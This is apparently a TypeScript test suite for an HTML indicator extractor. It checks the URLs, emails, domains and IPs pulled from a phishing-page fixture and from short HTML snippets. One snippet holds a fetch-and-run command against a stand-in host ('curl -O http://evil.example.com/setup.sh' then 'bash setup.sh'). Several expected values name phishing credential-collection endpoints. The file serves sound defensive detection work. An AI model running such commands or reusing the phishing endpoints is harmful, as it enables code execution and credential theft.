// HTML documents: visible text with Markdown links, link targets as spans, scripts and comments.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { assertOffsetsHold, briefs, fixture, readOk } from './helpers.ts';

const html = (s: string) => readOk(Buffer.from(s), { format: 'html' });

describe('HTML: the phishing page fixture', () => {
  test('every target says where it came from: navigation (html-href), what the page loads (html-src), text, script, comment', async () => {
    const doc = await readOk(fixture('phishing-page.html'), { name: 'phishing-page.html' });
    assert.equal(doc.format, 'html');
    assert.equal(doc.metadata.title, 'Sign in – Example Bank Online', 'entities decoded in the title');
    assert.deepEqual(briefs(doc, ['url', 'email']), [
      'html-href | indicator url https://secure-login.example-bank.top/session/expired?id=7781', // meta refresh
      'html-src | indicator url https://cdn.bank-assets.example.net/css/main.css',
      'html-src | indicator url https://code.jquery-cdn.example.org/jquery-3.7.1.min.js',
      'html-href | indicator url https://secure-login.example-bank.top/verify?u=client&t=9f2c', // "Verify your account": a call to action, &amp; decoded
      'html-href | indicator url https://collect.panel-host.example.xyz/post.php', // form action
      'html-href | indicator url https://collect.panel-host.example.xyz/post2.php', // formaction
      'html-src | indicator url https://img.example-bank.top/logo.png',
      'html-src | indicator url https://img.example-bank.top/logo@2x.png',
      'html-src | indicator url https://img2.example-bank.top/logo@3x.png',
      'html-text | indicator email help@example-bank.top', // &#64; and &#46; decoded
      'html-src | indicator url https://stage3.example-files.click/doc.zip', // data-next
      'html-href | reference url https://www.example-bank.com/security/phishing-advice', // titled link in the references
      'html-href | reference url https://attack.mitre.org/techniques/T1566/002/',
      'html-text | reference url https://www.example-bank.com/privacy',
      'html-href | reference url https://www.example-bank.com/privacy',
      'html-script | indicator url https://collect.panel-host.example.xyz/gate.php?step=2',
      'html-script | indicator url https://fallback-host.example.ru/x', // defanged in the script
      'html-script | indicator url https://beacon.example-stats.site/p.gif', // onload handler
      'html-comment | indicator email kitseller@proton-mail.example.com',
    ]);
    assertOffsetsHold(doc);
  });

  test('the visible text keeps its lines: headings as Markdown headings, list items as "- " lines', async () => {
    const doc = await readOk(fixture('phishing-page.html'));
    const text = doc.parts[0]?.text ?? '';
    assert.match(text, /\n# Example Bank\n/);
    assert.match(text, /\n## References\n\n?- \[How we protect your account\]\(https:\/\/www\.example-bank\.com\/security\/phishing-advice\)\n/);
    assert.ok(!text.includes('window.location'), 'scripts are not visible text');
  });
});

describe('HTML: links and text', () => {
  const CASES: [string, string, string[]][] = [
    ['a titled link is a reference', '<p>Read <a href="https://blog.example.org/a">our analysis of the loader</a>.</p>', ['html-href | reference url https://blog.example.org/a']],
    ['a call to action is an indicator', '<a href="https://evil.example.com/x">Click here</a>', ['html-href | indicator url https://evil.example.com/x']],
    ['a link showing another address is an indicator, and both are read', '<a href="https://evil.example.com/x">https://bank.example.com/</a>', ['html-text | indicator url https://bank.example.com/', 'html-href | indicator url https://evil.example.com/x']],
    ['a link spread over block elements keeps its title on one line', '<a href="https://blog.example.org/b"><div>Part two</div><div>of the series</div></a>', ['html-href | reference url https://blog.example.org/b']],
    ['spaces and quotes in a target are encoded, it stays one URL', '<a href=" https://evil.example.com/a b\n/c ">x y</a>', ['html-href | reference url https://evil.example.com/a%20b/c']],
    ['entities in text are decoded', '<p>C2: evil&#46;example&#46;com and 198&period;51&period;100&period;7</p>', ['html-text | indicator domain evil.example.com', 'html-text | indicator ipv4 198.51.100.7']],
    ['javascript:, data: and fragment targets are not written in', '<a href="javascript:void(0)">a</a><a href="#top">b</a><img src="data:image/png;base64,AAAA">', []],
    ['a mailto: link gives its address', '<a href="mailto:drop@evil.example.com?subject=x">Contact us</a>', ['html-href | indicator email drop@evil.example.com', 'html-href | indicator domain evil.example.com']],
    ['preformatted text keeps its lines', '<pre>$ curl -O http://evil.example.com/setup.sh\n$ bash setup.sh</pre>', ['html-text | indicator url http://evil.example.com/setup.sh']],
    ['table cells are apart', '<table><tr><td>evil.example.com</td><td>C2</td></tr><tr><td>198.51.100.9</td></tr></table>', ['html-text | indicator domain evil.example.com', 'html-text | indicator ipv4 198.51.100.9']],
  ];
  for (const [name, source, expected] of CASES) {
    test(name, async () => assert.deepEqual(briefs(await html(source), ['url', 'email', 'domain', 'ipv4']).filter((b) => !b.includes(' domain ') || !source.includes('://')), expected));
  }
});
